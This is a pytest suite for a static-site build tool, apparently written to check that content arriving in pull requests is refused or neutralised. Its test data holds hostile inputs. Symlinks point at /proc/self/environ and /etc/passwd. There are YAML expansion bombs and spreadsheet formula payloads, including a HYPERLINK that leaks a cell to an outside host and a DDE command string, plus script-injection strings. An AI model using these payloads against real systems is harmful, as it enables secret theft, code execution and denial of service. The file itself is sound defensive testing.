"""Content is untrusted: what a pull request may carry cannot publish files from outside the
repository, hang the pipeline, inject formulas into spreadsheets, or pass `check` and break `build`.

Each test plays one attack that got through before (issue 13) or a variant of its family, and
asserts on what a contributor sees: a positioned error, exit 1, no traceback, site/ untouched.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import time
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from .conftest import coopsite, copy_tree

REC = "recommendations/sip-2020-2021/sip2021-01.yml"
# A hang detector, not a speed test: each probe must finish (it takes about a second); a YAML bomb
# used to run for ever and grow past 800 MB.
HANG = 120


def run_check(root: Path, *extra: str, env: dict | None = None):
    t0 = time.monotonic()
    res = coopsite("--root", str(root), "check", *extra, env=env)
    res.seconds = time.monotonic() - t0
    assert "Traceback" not in res.stdout + res.stderr, res.stdout + res.stderr
    return res


def errors(res) -> list[str]:
    return [line for line in res.stdout.splitlines() if ": error: " in line]


def site_marker(root: Path) -> Path:
    """A previous site/ whose survival each failed build must prove."""
    marker = root / "site" / "previous.txt"
    marker.parent.mkdir(parents=True, exist_ok=True)
    marker.write_text("the previous site")
    return marker


def assert_build_refuses(root: Path):
    marker = site_marker(root)
    res = coopsite("--root", str(root), "build", "--quiet")
    assert res.returncode == 1, res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    assert marker.read_text() == "the previous site"
    assert not list(root.glob("site.*")), "no temporary folder is left behind"
    return res


# --- 1. symbolic links --------------------------------------------------------------------

@pytest.mark.parametrize("link, target", [
    ("content/assets/env.txt", "/proc/self/environ"),            # the build's environment: CI secrets
    ("content/assets/passwd.txt", "/etc/passwd"),
    ("content/x.nl.md", "/etc/os-release"),                     # a page MkDocs would render
    ("content/blog/images/cover.png", "/etc/passwd"),            # a blog image
    ("content/etc", "/etc"),                                    # a folder
    ("content/assets/deep/er/still.txt", "/etc/hostname"),       # at any depth
    ("recommendations/sip-2020-2021/sip2021-99.yml", "/etc/passwd"),  # read by the pipeline itself
    ("podcasts/stolen", "/etc"),                                 # an episode folder
    ("content/events/x.yml", "../" * 20 + "etc/passwd"),          # relative, climbing out
])
def test_links_out_of_the_content_folders_are_refused(tree, link, target):
    path = tree / link
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, path)
    res = run_check(tree)
    assert res.returncode == 1
    found = [e for e in errors(res) if e.startswith(f"{link}: error: symbolic link to '{target}'")]
    assert found, res.stdout
    assert "outside" in found[0]
    # nothing of the target is echoed back (an error message is published in CI logs)
    assert "root:x:0:0" not in res.stdout + res.stderr
    res = assert_build_refuses(tree)
    assert link in res.stdout


def test_links_inside_their_own_folder_are_allowed_and_published(tree):
    assets = tree / "content" / "assets"
    os.symlink("coopsite.css", assets / "same-style.css")
    res = run_check(tree)
    assert res.returncode == 0, res.stdout
    res = coopsite("--root", str(tree), "build", "--quiet")
    assert res.returncode == 0, res.stdout + res.stderr
    assert (tree / "site" / "assets" / "same-style.css").read_bytes() == (assets / "coopsite.css").read_bytes()


@pytest.mark.parametrize("make, message", [
    (lambda c: os.symlink("nothing-here.txt", c / "assets" / "broken.txt"), "which does not exist"),
    (lambda c: os.symlink("..", c / "assets" / "loop"), "contains the link itself"),
    (lambda c: os.symlink("../recommendations", c / "recs"), "outside content/"),  # another content folder
    (lambda c: os.mkfifo(c / "assets" / "pipe.txt"), "not a regular file"),      # a reader would hang on it
])
def test_broken_looping_crossing_links_and_special_files(tree, make, message):
    make(tree / "content")
    res = run_check(tree)
    assert res.returncode == 1
    assert any(message in e for e in errors(res)), res.stdout


def test_settings_files_and_content_folders_may_not_be_links(tmp_path, tree):
    elsewhere = tmp_path / "elsewhere.yml"
    shutil.move(tree / "coopsite.yml", elsewhere)
    os.symlink(elsewhere, tree / "coopsite.yml")
    res = run_check(tree)
    assert res.returncode == 1
    assert any(e.startswith("coopsite.yml: error: coopsite.yml is a symbolic link") for e in errors(res)), res.stdout


def test_media_folder_links_stay_inside_the_media_folder(tmp_path, tree):
    media = tmp_path / "media"
    (media / "ep").mkdir(parents=True)
    os.symlink("/etc/passwd", media / "ep" / "master.wav")
    res = run_check(tree, env={"COOPSITE_MEDIA_DIR": str(media)})
    assert res.returncode == 1
    assert any(e.startswith("$COOPSITE_MEDIA_DIR/ep/master.wav: error: symbolic link to '/etc/passwd'")
               for e in errors(res)), res.stdout


def test_a_post_image_path_may_not_leave_the_images_folder(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    post = next((root / "content" / "blog" / "posts").glob("*.nl.md"))
    text = post.read_text(encoding="utf-8")
    post.write_text(text.rstrip("\n") + "\n\n![readme](../../../README.md)\n", encoding="utf-8")
    (root / "README.md").write_text("the repository's readme")
    res = run_check(root)
    assert res.returncode == 1
    line = len(text.rstrip("\n").split("\n")) + 2
    rel = post.relative_to(root).as_posix()
    assert f"{rel}:{line}:11: error: image '../../../README.md' is not in content/blog/images/" in res.stdout


# --- 2. YAML that expands without end ---------------------------------------------------------

def laughs(levels: int = 9, width: int = 9, indent: str = "") -> str:
    lines = [f'{indent}a0: &a0 [{", ".join(["lol"] * width)}]']
    for i in range(1, levels + 1):
        lines.append(f"{indent}a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def mapping_laughs() -> str:
    lines = ["m0: &m0 {k: lol}"]
    for i in range(1, 12):
        lines.append(f"m{i}: &m{i} {{" + ", ".join(f"k{j}: *m{i - 1}" for j in range(6)) + "}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("where, text, message", [
    ("content/events/bomb.yml", laughs(), "repeat their anchors more than"),
    (REC, None, "repeat their anchors more than"),                    # appended to a real file
    ("content/blog/posts/bomb.nl.md", "---\n" + laughs() + "---\nbody\n", "repeat their anchors more than"),
    ("podcasts/bomb/episode.yml", laughs(), "repeat their anchors more than"),
    ("content/events/maps.yml", mapping_laughs(), "repeat their anchors more than"),
    ("content/events/wide.yml", 'a: &a "' + "x" * 1_000_000 + '"\nb: [' + ", ".join(["*a"] * 40) + "]\n",
     "characters"),
    ("content/events/deep.yml", "a: " + "[" * 500 + "]" * 500 + "\n", "nested more than"),
    ("content/events/deep-block.yml", "".join(" " * i + f"k{i}:\n" for i in range(200)) + " " * 200 + "k: v\n",
     "nested more than"),
])
def test_yaml_bombs_give_a_positioned_error_quickly(tree, where, text, message):
    path = tree / where
    path.parent.mkdir(parents=True, exist_ok=True)
    if text is None:
        text = path.read_text(encoding="utf-8") + laughs(indent="")
        text = text.replace("a0:", "x_a0:", 1)
    path.write_text(text, encoding="utf-8")
    res = run_check(tree)
    assert res.returncode == 1
    found = [e for e in errors(res) if e.startswith(f"{where}:") and message in e]
    assert found, res.stdout
    assert re.match(rf"{re.escape(where)}:\d+:\d+: error:", found[0])
    assert res.seconds < HANG


def test_oversized_files_are_refused_without_being_parsed(tree):
    path = tree / "content" / "events" / "huge.yml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("a: " + "x" * (3 * 1024 * 1024) + "\n")
    res = run_check(tree)
    assert res.returncode == 1
    assert any(e.startswith("content/events/huge.yml: error: file is too large") for e in errors(res)), res.stdout


def test_settings_file_bomb(tree):
    cfg = tree / "coopsite.yml"
    cfg.write_text(cfg.read_text(encoding="utf-8") + "\nx_bomb:\n" + laughs(indent="  "), encoding="utf-8")
    res = run_check(tree)
    assert res.returncode == 1
    assert any(e.startswith("coopsite.yml:") and "repeat their anchors" in e for e in errors(res)), res.stdout


def test_ordinary_anchors_still_work(tree):
    """A few aliases are ordinary YAML: the budget only stops documents that multiply."""
    path = tree / REC
    text = path.read_text(encoding="utf-8")
    assert "theme: " in text
    path.write_text(text.replace("theme: ", "theme: &t ", 1) + "x_same_theme: *t\n", encoding="utf-8")
    res = run_check(tree)
    assert "repeat their anchors" not in res.stdout
    assert "unknown key 'x_same_theme'" in res.stdout  # read like any other value


# --- 3. CSV formula injection ----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+1+2", "-2+3", "@SUM(1+1)",
            "\tindented", "=1+1"]


def test_csv_cells_are_neutralised(tree, tmp_path):
    yaml = YAML()
    path = tree / REC
    doc = yaml.load(path.read_text(encoding="utf-8"))
    doc["title"]["nl"], doc["title"]["fr"], doc["title"]["en"] = FORMULAS[0], FORMULAS[1], FORMULAS[3]
    with path.open("w", encoding="utf-8") as fh:
        yaml.dump(doc, fh)
    res = coopsite("--root", str(tree), "export", str(tmp_path / "out"))
    assert res.returncode == 0, res.stdout + res.stderr
    data = (tmp_path / "out" / "api" / "recommendations.csv").read_bytes()
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    row = next(r for r in rows if r["id"] == "sip2021-01")
    assert row["title_nl"] == "'" + FORMULAS[0]
    assert row["title_fr"] == "'+1+2" and row["title_en"] == "'@SUM(1+1)"
    # the JSON API keeps the text as written: only spreadsheets need the apostrophe
    doc = json.loads((tmp_path / "out" / "api" / "recommendations.json").read_text(encoding="utf-8"))
    assert FORMULAS[0] in json.dumps(doc, ensure_ascii=False).replace('\\"', '"')


def test_safe_cell_rule():
    from coopsite.core.spreadsheet import csv_bytes, safe_cell

    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [safe_cell(v) for v in ("plain", "a=b", "", None, 3, "'quoted")] == ["plain", "a=b", "", "", "3", "'quoted"]
    back = list(csv.reader(io.StringIO(csv_bytes([["=1", "\r=2", "ok"]]).decode("utf-8-sig"))))
    assert back == [["'=1", "'\r=2", "ok"]]


# --- 4. what check accepts, build builds ---------------------------------------------------

def test_line_breaks_and_control_characters_in_one_line_fields(tmp_path):
    tree = copy_tree(tmp_path / "repo", full=True)
    path = tree / "content" / "events" / "newline.yml"
    shutil.copy2(Path(__file__).parents[1] / "content" / "events" / "sip-workshop-2027.yml", path)
    text = path.read_text(encoding="utf-8")
    text = text.replace("id: sip-workshop-2027", "id: newline")
    text = re.sub(r"(?m)^title:\n  nl: .*$", lambda m: 'title:\n  nl: "Eerste regel\\nTweede regel"', text, count=1)
    text = re.sub(r"(?m)^(organiser:\n  nl:) .*$", lambda m: m.group(1) + ' "Smart\\u2028in Progress"', text, count=1)
    path.write_text(text, encoding="utf-8")
    res = run_check(tree)
    assert res.returncode == 1
    msgs = errors(res)
    title_line = text.split("\n").index('  nl: "Eerste regel\\nTweede regel"') + 1
    assert f"content/events/newline.yml:{title_line}:7: error: 'title.nl' contains a line break (U+000A)" in msgs, msgs
    assert any("'organiser.nl' contains a line break (U+2028)" in m for m in msgs), msgs
    assert_build_refuses(tree)


def test_control_characters_in_markdown_files(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    post = next((root / "content" / "blog" / "posts").glob("*.nl.md"))
    text = post.read_text(encoding="utf-8")
    post.write_text(text + "\nbell \x07 here\n", encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    n = text.count("\n") + 2
    assert f"{post.relative_to(root).as_posix()}:{n}:6: error: the file contains a control character U+0007" \
        in res.stdout


# Accepted by check, and as hostile as accepted text gets: markup characters, quotes, a formula, a
# CDATA end, template delimiters, right-to-left and zero-width characters, emoji, a long run.
WORST = ('=cmd|"/C calc"!A0 <b>&amp; "dq" \'sq\' a < b > c ]]> {{ x }} {% y %} \\ ; : , '
         '\u202eRTL\u202c \u200b 🎉 ' + "ä" * 200)
MULTILINE_WORST = WORST + "\n\n- a list item\n\n    indented\n\n" + WORST


def _localized_maps(node, langs, multiline_keys, key=None):
    """Every {nl, fr, en} text map in a YAML document, with whether the field is Markdown."""
    if isinstance(node, dict):
        if node and set(node) <= set(langs) and all(isinstance(v, str) for v in node.values()):
            yield node, key in multiline_keys
            return
        for k, v in node.items():
            yield from _localized_maps(v, langs, multiline_keys, k)
    elif isinstance(node, list):
        for item in node:
            yield from _localized_maps(item, langs, multiline_keys, key)


MARKDOWN_FIELDS = {"context", "proposal", "text", "closing", "notes", "reason", "priority_reason", "note",
                   "introduction", "description", "credits", "bio"}


def worst_values(root: Path) -> int:
    """Set every localized text of the tree to the worst accepted value; how many were set."""
    yaml = YAML()
    yaml.width = 10_000
    langs = ("nl", "fr", "en")
    files = [p for p in root.rglob("*.yml") if "site" not in p.parts and p.name not in ("mkdocs.yml", "coopsite.yml")]
    changed = 0
    for path in files:
        doc = yaml.load(path.read_text(encoding="utf-8"))
        for texts, multiline in _localized_maps(doc, langs, MARKDOWN_FIELDS):
            for lang in list(texts):
                texts[lang] = MULTILINE_WORST if multiline else WORST
                changed += 1
        with path.open("w", encoding="utf-8") as fh:
            yaml.dump(doc, fh)
    for post in (root / "content" / "blog" / "posts").glob("*.md"):
        text = post.read_text(encoding="utf-8")
        text = re.sub(r'(?m)^title: .*$', "title: " + json.dumps(WORST, ensure_ascii=False), text, count=1)
        post.write_text(text + "\n" + MULTILINE_WORST.replace("<b>", "`<b>`") + "\n", encoding="utf-8")
    return changed


def test_every_text_field_with_its_worst_accepted_value_builds(tmp_path):
    """Set every localized text of the shipped content (recommendations, registries, events, places,
    episodes, the blog's authors and tags, post titles) to the worst value check accepts: check
    passes, and so do build and export, whose feeds, calendars and API parse back."""
    root = copy_tree(tmp_path / "repo", full=True)
    assert worst_values(root) > 500
    res = run_check(root, "--errors-only")
    assert res.returncode == 0, res.stdout
    res = coopsite("--root", str(root), "build", "--quiet")
    assert res.returncode == 0, res.stdout + res.stderr
    site = root / "site"
    import feedparser
    import icalendar

    feeds = list((site / "feeds").glob("*.xml"))
    calendars = list(site.rglob("*.ics"))
    assert feeds and calendars
    for feed in feeds:
        parsed = feedparser.parse(feed.read_bytes())
        assert not parsed.bozo, (feed, parsed.bozo_exception)
    for ics in calendars:
        cal = icalendar.Calendar.from_ical(ics.read_bytes())
        for ev in cal.walk("VEVENT"):
            assert "\n" not in str(ev["SUMMARY"])
    for api in (site / "api").glob("*.json"):
        json.loads(api.read_text(encoding="utf-8"))
    rec_page = (site / "recommendations" / "sip2021-01" / "index.html").read_text(encoding="utf-8")
    assert "<b>&amp;amp;" not in rec_page or "&lt;b&gt;" in rec_page
    assert "<script" not in WORST


# --- 5. drafts ----------------------------------------------------------------------------

DRAFT = """---
title: Een klad
date: 2026-11-01
authors: [niemand]
tags: [geen-tag]
draft: true
---
Hallo <script>alert(1)</script> en <img src="x.png" onerror="alert(1)">
"""


def test_drafts_go_through_every_rule(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    posts = root / "content" / "blog" / "posts"
    (posts / "klad.nl.md").write_text(DRAFT, encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    msgs = errors(res)
    assert "content/blog/posts/klad.nl.md:8:7: error: <script> is not allowed: scripts never run from the site's texts" \
        in msgs, msgs
    assert any(m.startswith("content/blog/posts/klad.nl.md:8:") and "onerror" in m for m in msgs), msgs
    # the member fixes the markup: the rules of the catalog still apply to the draft
    (posts / "klad.nl.md").write_text(DRAFT.replace(DRAFT.splitlines()[-1], "Hallo"), encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    assert "content/blog/posts/klad.nl.md:4:11: error: unknown author 'niemand'" in errors(res), res.stdout
    assert "1 draft" in res.stderr


def test_a_valid_draft_is_counted_checked_and_not_published(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    authors = (root / "content" / "blog" / "authors.yml").read_text(encoding="utf-8")
    author = re.search(r"(?m)^- id: (\S+)", authors).group(1)
    text = DRAFT.replace("[niemand]", f"[{author}]").replace("tags: [geen-tag]\n", "")
    (root / "content" / "blog" / "posts" / "klad.nl.md").write_text(text.replace(text.splitlines()[-1], "Hallo"),
                                                                    encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 0, res.stdout
    assert re.search(r"\b1 post, 1 episode, \d+ events, 1 draft: 0 errors", res.stderr), res.stderr
    res = coopsite("--root", str(root), "build", "--quiet")
    assert res.returncode == 0, res.stdout + res.stderr
    assert not list((root / "site").rglob("klad*"))


def test_published_content_may_not_rely_on_a_draft(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    episode = next((root / "podcasts").glob("*/episode.yml"))
    text = episode.read_text(encoding="utf-8")
    episode.write_text(re.sub(r"(?m)^draft: .*\n", "", text) + "draft: true\n", encoding="utf-8")
    post = next((root / "content" / "blog" / "posts").glob("*.nl.md"))
    eid = re.search(r"(?m)^id: (\S+)", text).group(1)
    body = post.read_text(encoding="utf-8")
    if f"episodes: [{eid}]" not in body:
        body = body.replace("---\n", f"---\nepisodes: [{eid}]\n", 1)
        post.write_text(body, encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    assert any(post.name in m and eid in m for m in errors(res)), res.stdout


# --- 6. leftovers and file-system errors ------------------------------------------------------

def test_a_build_removes_what_killed_builds_left_and_keeps_live_ones(tree):
    dead = 2 ** 22 + 12345  # above Linux's default pid_max: no such process
    for kind in ("tmp", "files", "old"):
        (tree / f"site.{kind}-{dead}" / "x").mkdir(parents=True)
    live = tree / f"site.tmp-{os.getpid()}"  # a build running right now (this test process)
    live.mkdir()
    unrelated = tree / "site.backup"
    unrelated.mkdir()
    res = coopsite("--root", str(tree), "build")
    assert res.returncode == 0, res.stdout + res.stderr
    assert "removed 3 folders left by earlier interrupted builds" in res.stderr
    assert sorted(p.name for p in tree.glob("site.*")) == sorted([live.name, unrelated.name])


def test_a_site_folder_that_cannot_be_replaced_is_one_clear_line(tree, monkeypatch, capsys):
    from coopsite.commands import cli

    marker = site_marker(tree)

    def refuse(tmp, site_dir, old):
        raise PermissionError(13, "Permission denied", str(site_dir))

    monkeypatch.setattr(cli, "swap_in", refuse)
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    code = cli.main(["--root", str(tree), "build", "--quiet"])
    err = capsys.readouterr().err
    assert code == 1
    assert f"error: the new site could not replace site/: Permission denied: {tree / 'site'}" in err
    assert "Traceback" not in err and "[Errno" not in err
    assert marker.read_text() == "the previous site"
    assert not list(tree.glob("site.*"))
    assert "SOURCE_DATE_EPOCH" not in os.environ  # the build's date for MkDocs, taken back


def test_swap_in_puts_the_previous_site_back(tmp_path, monkeypatch):
    from coopsite.commands import cli

    site, tmp, old = tmp_path / "site", tmp_path / "site.tmp-1", tmp_path / "site.old-1"
    site.mkdir(), tmp.mkdir()
    (site / "a").write_text("previous")
    real_rename = Path.rename

    def rename(self, target):
        if self == tmp:
            raise PermissionError(13, "Permission denied", str(self))
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(PermissionError):
        cli.swap_in(tmp, site, old)
    assert (site / "a").read_text() == "previous" and not old.exists()


# --- worker processes --------------------------------------------------------------------

def failing_files_result():
    """A pipeline result whose feeds fail on one event, as icalendar failed on a line break."""
    from coopsite.core.source import Pos

    class Record:
        pos = Pos("content/events/x.yml", 3, 7)

    def make_ics(event):
        raise ValueError("Content line could not be parsed into parts: 'SUMMARY:a\\nb'")

    class Result:
        @property
        def files(self):
            return make_ics(Record())

        def hand_files_to(self, job):
            pass

    return Result()


def test_a_failing_files_worker_reports_the_cause_and_the_content_file(tmp_path):
    from coopsite.core.failures import WorkerFailed
    from coopsite.core.output import FilesJob

    job = FilesJob(failing_files_result(), tmp_path / "staging")
    with pytest.raises(WorkerFailed) as info:
        job.finish(tmp_path / "site")
    message = str(info.value)
    assert "content/events/x.yml:3:7: ValueError: Content line could not be parsed" in message
    assert "No child processes" not in message


def test_files_made_here_report_their_failure_like_a_worker(tmp_path, monkeypatch):
    """With other threads alive the feeds and API files are made in this process: a failure is
    still a WorkerFailed naming its cause and its content file."""
    from coopsite.core import parallel
    from coopsite.core.failures import WorkerFailed
    from coopsite.core.output import FilesJob

    monkeypatch.setattr(parallel, "can_fork", lambda: False)
    job = FilesJob(failing_files_result(), tmp_path / "staging")
    assert job.child is None
    with pytest.raises(WorkerFailed, match=r"content/events/x.yml:3:7: ValueError: Content line could not be parsed"):
        job.finish(tmp_path / "site")


# --- Markdown that takes minutes to convert --------------------------------------------------

NESTED_LIST = "".join("  " * i + "- x\n" for i in range(300))    # 2,000 levels never finished converting
BRACKETS = "[" * 8000 + "x" + "](" * 4000                        # 21 s in one paragraph


def test_pathological_markdown_in_a_post_is_refused_quickly(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    post = next((root / "content" / "blog" / "posts").glob("*.nl.md"))
    text = post.read_text(encoding="utf-8")
    post.write_text(text + "\n" + BRACKETS + "\n", encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    line = text.count("\n") + 2
    assert f"{post.relative_to(root).as_posix()}:{line}:1: error: more than 400 '[' in one paragraph" in res.stdout
    assert res.seconds < HANG


def test_pathological_markdown_in_yaml_and_pages_is_refused(tmp_path):
    root = copy_tree(tmp_path / "repo", full=True)
    event = root / "content" / "events" / "sip-workshop-2027.yml"
    text = event.read_text(encoding="utf-8")
    # a literal block, so the nesting survives YAML
    block = "  nl: |\n" + "".join("    " + line + "\n" for line in NESTED_LIST.splitlines())
    text = text.replace("description:\n  nl: |\n", "description:\n" + block + "  x_old: |\n", 1)
    text = text.replace("  x_old: |\n", "  x_old_nl: |\n")
    event.write_text(text, encoding="utf-8")
    about = root / "content" / "about.fr.md"
    about.write_text(about.read_text(encoding="utf-8") + "\n" + ">" * 40 + " citation\n", encoding="utf-8")
    res = run_check(root)
    assert res.returncode == 1
    msgs = errors(res)
    assert any(m.startswith("content/events/sip-workshop-2027.yml:") and "'description.nl': line indented by more"
               in m for m in msgs), msgs
    assert any(m.startswith("content/about.fr.md:") and "quotes ('>') nested more than 16" in m for m in msgs), msgs
    assert res.seconds < HANG


def test_markdown_limits_leave_real_texts_alone():
    from coopsite.core.source import markdown_problem

    real = Path(__file__).parents[1]
    texts = [p.read_text(encoding="utf-8") for p in (real / "content").rglob("*.md")]
    texts += [p.read_text(encoding="utf-8") for p in (real / "recommendations").rglob("*.yml")]
    assert len(texts) > 40
    assert [t[:40] for t in texts if markdown_problem(t)] == []
    assert markdown_problem("[a](b) " * 400) is None
    assert markdown_problem("[a](b) " * 401)[2] == "more than 400 '[' in one paragraph"
    assert markdown_problem(("[a](b) " * 300 + "\n\n") * 3) is None  # counted per paragraph


def test_editing_tools_refuse_a_bomb_without_hanging_or_crashing(tree):
    path = tree / REC
    path.write_text(path.read_text(encoding="utf-8") + "x_deep: " + "[" * 900 + "]" * 900 + "\n", encoding="utf-8")
    res = coopsite("--root", str(tree), "status", "sip2021-01", "accepted", "--note", "x")
    assert res.returncode == 1
    assert "Traceback" not in res.stderr and "internal error" not in res.stderr, res.stderr
    assert "not valid YAML" in res.stderr
